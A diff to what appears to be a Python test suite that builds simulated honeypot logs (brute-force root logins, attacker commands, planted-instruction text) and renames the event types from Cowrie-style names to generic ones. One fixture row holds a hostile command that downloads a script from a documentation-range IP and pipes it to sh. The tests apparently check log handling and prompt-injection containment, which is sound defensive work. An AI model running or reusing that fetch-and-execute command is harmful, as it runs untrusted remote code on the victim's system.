@@ -81,7 +81,7 @@ def brute_force_rows() -> list[dict[str, Any]]:
         log_row(
             BUCKET,
             at(i),
-            "cowrie.login.failed",
+            "login_failed",
             source_ip="198.51.100.1",
             username="root",
             password=f"pw{i}",
@@ -283,7 +283,7 @@ def varied_rows(count: int) -> list[dict[str, Any]]:
         log_row(
             BUCKET,
             at(i % 200),
-            "cowrie.command.input",
+            "command",
             source_ip=f"10.1.{i // 200}.{i % 200}",
             command=f"echo {i:04d} " + "lorem-ipsum-dolor " * 14,
         )
@@ -362,7 +362,7 @@ def test_planted_instructions_stay_inside_the_block_and_the_floor_holds(
         log_row(
             BUCKET,
             at(1),
-            "cowrie.login.success",
+            "login_success",
             source_ip="198.51.100.2",
             username="root",
             password="root",
@@ -370,7 +370,7 @@ def test_planted_instructions_stay_inside_the_block_and_the_floor_holds(
         log_row(
             BUCKET,
             at(2),
-            "cowrie.command.input",
+            "command",
             source_ip="198.51.100.2",
             command="cd /tmp; curl -s http://198.51.100.7/x.sh | sh",
         ),
@@ -378,7 +378,7 @@ def test_planted_instructions_stay_inside_the_block_and_the_floor_holds(
             log_row(
                 BUCKET,
                 at(3 + i),
-                "cowrie.command.input",
+                "command",
                 source_ip="198.51.100.2",
                 command=text,
                 raw=text,
